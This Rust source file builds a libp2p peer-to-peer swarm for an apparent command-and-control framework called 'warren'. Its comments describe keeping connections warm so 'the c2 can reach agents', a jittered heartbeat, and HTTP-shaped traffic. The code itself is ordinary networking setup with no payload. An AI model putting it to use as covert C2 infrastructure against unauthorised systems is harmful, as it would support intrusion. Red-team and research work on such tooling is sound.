use std::net::{IpAddr, SocketAddr};
use std::time::Duration;

use libp2p::{
    identify, kad, mdns, multiaddr::Protocol, noise, request_response,
    swarm::behaviour::toggle::Toggle, swarm::NetworkBehaviour, tcp, yamux, Multiaddr,
    StreamProtocol, Swarm,
};

use warren_proto::WIRE_PROTOCOL;

use crate::{
    address::to_overlay_keypair,
    config::RadioConfig,
    wire::WpcCodec,
};

/// Overlay identify protocol string.
const IDENTIFY_PROTOCOL: &str = "/warren/identify/1.0.0";

/// Connections are kept warm between heartbeats so the c2 can reach agents
/// without re-dialing; the jittered heartbeat cadence refreshes them.
const IDLE_CONNECTION_TIMEOUT: Duration = Duration::from_secs(600);

// ============================================================================
// Combined behaviour
// ============================================================================

#[derive(NetworkBehaviour)]
pub struct WarrenBehaviour {
    /// The HTTP-shaped request/response transport all warren traffic uses.
    pub request_response: request_response::Behaviour<WpcCodec>,
    /// Peer address routing across the mesh.
    pub kademlia: kad::Behaviour<kad::store::MemoryStore>,
    /// Address exchange on connect; feeds kademlia.
    pub identify: identify::Behaviour,
    /// Local-network peer discovery; enabled by the multicast peering input.
    pub mdns: Toggle<mdns::tokio::Behaviour>,
}

// ============================================================================
// Swarm builder
// ============================================================================

/// Build the overlay swarm for the given peering configuration and attach
/// the configured listeners and static peers.
pub async fn build_swarm(conf: &RadioConfig) -> Result<Swarm<WarrenBehaviour>, String> {
    let keypair = to_overlay_keypair(&conf.identity);
    let use_multicast = conf.use_multicast;

    let mut swarm = libp2p::SwarmBuilder::with_existing_identity(keypair)
        .with_tokio()
        .with_tcp(
            tcp::Config::default(),
            noise::Config::new,
            yamux::Config::default,
        )
        .map_err(|e| e.to_string())?
        .with_dns()
        .map_err(|e| e.to_string())?
        .with_websocket(noise::Config::new, yamux::Config::default)
        .await
        .map_err(|e| e.to_string())?
        .with_behaviour(|key| {
            let peer_id = key.public().to_peer_id();

            let request_response = request_response::Behaviour::<WpcCodec>::new(
                [(
                    StreamProtocol::new(WIRE_PROTOCOL),
                    request_response::ProtocolSupport::Full,
                )],
                request_response::Config::default(),
            );

            let mut kademlia =
                kad::Behaviour::new(peer_id, kad::store::MemoryStore::new(peer_id));
            kademlia.set_mode(Some(kad::Mode::Server));

            let identify = identify::Behaviour::new(identify::Config::new(
                IDENTIFY_PROTOCOL.to_string(),
                key.public(),
            ));

            let mdns = if use_multicast {
                Some(
                    mdns::tokio::Behaviour::new(mdns::Config::default(), peer_id)
                        .map_err(|e| {
                            Box::new(e) as Box<dyn std::error::Error + Send + Sync + 'static>
                        })?,
                )
            } else {
                None
            };

            Ok(WarrenBehaviour {
                request_response,
                kademlia,
                identify,
                mdns: Toggle::from(mdns),
            })
        })
        .map_err(|e| e.to_string())?
        .with_swarm_config(|cfg| cfg.with_idle_connection_timeout(IDLE_CONNECTION_TIMEOUT))
        .build();

    if let Some(addr) = conf.listen_tcp {
        swarm
            .listen_on(tcp_multiaddr(addr))
            .map_err(|e| format!("tcp listener on {addr}: {e}"))?;
    }
    if let Some(addr) = conf.listen_ws {
        swarm
            .listen_on(ws_multiaddr(addr))
            .map_err(|e| format!("websocket listener on {addr}: {e}"))?;
    }

    for peer in &conf.static_peers {
        if let Some(peer_id) = peer.iter().find_map(|p| {
            if let Protocol::P2p(pid) = p {
                Some(pid)
            } else {
                None
            }
        }) {
            swarm.behaviour_mut().kademlia.add_address(&peer_id, peer.clone());
        }
        if let Err(e) = swarm.dial(peer.clone()) {
            tracing::warn!("Static peer dial failed for {peer}: {e}");
        }
    }

    Ok(swarm)
}

fn tcp_multiaddr(addr: SocketAddr) -> Multiaddr {
    let mut out = Multiaddr::empty();
    match addr.ip() {
        IpAddr::V4(ip) => out.push(Protocol::Ip4(ip)),
        IpAddr::V6(ip) => out.push(Protocol::Ip6(ip)),
    }
    out.push(Protocol::Tcp(addr.port()));
    out
}

fn ws_multiaddr(addr: SocketAddr) -> Multiaddr {
    let mut out = tcp_multiaddr(addr);
    out.push(Protocol::Ws(std::borrow::Cow::Borrowed("/")));
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn multiaddr_forms() {
        let addr: SocketAddr = "127.0.0.1:4871".parse().unwrap();
        assert_eq!(tcp_multiaddr(addr).to_string(), "/ip4/127.0.0.1/tcp/4871");
        assert_eq!(ws_multiaddr(addr).to_string(), "/ip4/127.0.0.1/tcp/4871/ws");
    }
}
